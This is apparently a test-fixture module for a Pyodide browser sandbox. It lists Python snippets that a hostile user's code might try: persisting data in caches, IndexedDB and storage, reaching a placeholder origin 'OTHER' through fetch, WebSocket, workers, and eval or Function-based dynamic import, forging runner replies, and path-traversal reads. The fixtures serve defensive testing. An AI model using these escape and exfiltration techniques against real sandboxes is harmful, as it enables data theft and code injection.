"""What a stranger's Python may try in the page that it was sent to by a link.

Where nothing holds it, every piece leaves a trace with the word `planted` in it: a request that
another origin hears, something stored, or a word on a channel. `OTHER` is an address there.
"""

from typing import Final

START: Final = """
import asyncio, js, pyodide_js
from pyodide.ffi import create_proxy, to_js
def record(**entries):
    return to_js(entries, dict_converter=js.Object.fromEntries)
def getter(name):
    holder = js.globalThis
    while not js.Object.getOwnPropertyDescriptor(holder, name):
        holder = js.Object.getPrototypeOf(holder)
    return js.Object.getOwnPropertyDescriptor(holder, name).get
"""

#: What outlives the page.
STORED: Final = {
    "cache": """
async def plant():
    store = await js.caches.open("planted")
    await store.put(f"{js.location.origin}/planted", js.Response.new("<script>1</script>"))
asyncio.ensure_future(plant())
""",
    "cache-by-prototype": """
getter("caches").call(js.globalThis).open("planted").then(
    lambda store: store.put(f"{js.location.origin}/planted", js.Response.new("1")))
""",
    "database": """
js.indexedDB.open("planted")
""",
    "database-by-prototype": """
getter("indexedDB").call(js.self).open("planted")
""",
    "database-by-file-system": """
pyodide_js.FS.mkdir("/planted")
pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, record(), "/planted")
open("/planted/file", "w").write("planted")
pyodide_js.FS.syncfs(False, create_proxy(lambda error: None))
""",
    "files": """
async def plant():
    folder = await js.navigator.storage.getDirectory()
    await folder.getFileHandle("planted", record(create=True))
asyncio.ensure_future(plant())
""",
    "lock": """
forever = js.Promise.new(create_proxy(lambda *_: None))
js.navigator.locks.request("planted", create_proxy(lambda lock: forever))
""",
    "channel": """
channel = js.BroadcastChannel.new("boston")
channel.postMessage("planted")
""",
    "bucket": """
js.navigator.storageBuckets.open("planted")
""",
}

#: What reaches another origin.
SENT: Final = {
    "fetch": "js.fetch('OTHER')",
    "fetch-by-prototype": """
holder = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))
js.Reflect.apply(holder.fetch, js.self, to_js(["OTHER"]))
""",
    "fetch-quietly": "js.fetch('OTHER', record(mode='no-cors', keepalive=True))",
    "request": """
request = js.XMLHttpRequest.new()
request.open("GET", "OTHER", False)
request.send()
""",
    "socket": "js.WebSocket.new('OTHER'.replace('http', 'ws'))",
    "events": "js.EventSource.new('OTHER')",
    "font": """
js.FontFace.new("planted", "url(OTHER)").load()
""",
    "import": "js.eval('import(\"OTHER\")')",
    "import-by-function": "js.Function.new('return import(\"OTHER\")')()",
    "import-by-constructor": "js.Object.keys.constructor.new('return import(\"OTHER\")')()",
    "import-by-timer": "js.setTimeout('import(\"OTHER\")', 0)",
    "import-by-pyodide": """
from pyodide.code import run_js
run_js('import("OTHER")')
""",
    "import-by-async": """
pyodide_js.loadPackage.constructor.new('import("OTHER")')()
""",
    "import-by-c": """
import ctypes
ctypes.CDLL(None).emscripten_run_script(b'import("OTHER")')
""",
    "worker": """
text = "fetch('OTHER')"
address = js.URL.createObjectURL(js.Blob.new(to_js([text])))
js.Worker.new(address)
""",
    "worker-of-data": "js.Worker.new('data:text/javascript,fetch(\"OTHER\")')",
    "package": "pyodide_js.loadPackage('OTHER/planted-1-py3-none-any.whl')",
    "lazy-file": """
pyodide_js.FS.createLazyFile("/", "lazy", "OTHER", True, False)
open("/lazy").read()
""",
    "open-url": """
from pyodide.http import open_url
open_url("OTHER")
""",
    "pyfetch": """
from pyodide.http import pyfetch
import asyncio
asyncio.ensure_future(pyfetch("OTHER"))
""",
}

#: The browser's own functions and objects that must not be there.
FORBIDDEN: Final = {
    *("object CacheStorage", "object IDBFactory", "object StorageManager", "object LockManager"),
    *("object WorkerNavigator", "object StorageBucketManager", "object FontFaceSet"),
    *("function BroadcastChannel", "function EventSource", "function FontFace"),
    *("function Function", "function AsyncFunction", "function Request", "function WebSocket"),
    *("function WebTransport", "function Worker", "function XMLHttpRequest"),
    *("function createObjectURL", "function eval", "function fetch", "function importScripts"),
    *("function webkitRequestFileSystem", "function get caches", "function get indexedDB"),
}

#: Prints which of these can be got at, property by property. Pyodide began when they were gone
#: already, so it holds none.
WALK: Final = (
    f"forbidden = {sorted(FORBIDDEN)!r}"
    + """
from pyodide.ffi import JsProxy
seen, names, todo = js.Set.new(), set(), [js.globalThis, pyodide_js.loadPackage]
kind_of, text_of = js.Object.prototype.toString, js.Object.toString
def ask(function, *arguments):
    try:
        return function(*arguments)
    except Exception:
        return None
def note(thing):
    if isinstance(thing, JsProxy) and not seen.has(thing):
        seen.add(thing)
        todo.append(thing)
def told(function, thing):
    return str(ask(js.Reflect.apply, function, thing, to_js([])))
def is_native(thing):
    return "[native code]" in told(text_of, thing)
def keys(thing):
    return ask(js.Reflect.ownKeys, thing) or []
while todo:
    thing = todo.pop()
    kind = told(kind_of, thing).strip("[]")
    if "Function" not in kind:
        names.add(kind)
    elif is_native(thing):
        names.add(f"function {ask(js.Reflect.get, thing, 'name')}")
    else:  # Of Pyodide's own, whose parts break when they are looked into.
        note(ask(js.Reflect.getPrototypeOf, thing))
        continue
    if js.ArrayBuffer.isView(thing):
        continue
    holder = thing
    while holder and (holder is thing or not seen.has(holder)):
        for key in keys(holder):
            part = ask(js.Reflect.getOwnPropertyDescriptor, holder, key)
            for each in ("value", "get", "set"):
                note(ask(js.Reflect.get, part, each))
            if is_native(ask(js.Reflect.get, part, "get")):
                note(ask(js.Reflect.get, thing, key))
        holder = ask(js.Reflect.getPrototypeOf, holder)
    note(holder)
print("found:", *sorted(names.intersection(forbidden)), sep=", ")
"""
)

#: Answers in the place of the runner.
FORGE: Final = """
for number in range(100):
    js.postMessage(record(
        id=number, type="done", ok=True, text="forged", output="forged",
        value=None, error=None, raised=None, data=None))
"""

#: Asks the one thing that may still fetch for what is not the library's.
ASK: Final = """
from boston_docs.live.browser import on_demand
for name in ("../../../index", "/../../index", "colorsys?planted", "OTHER", js.Object.new(), None):
    try:
        print(on_demand.read(name))
    except Exception as error:
        print("refused")
"""
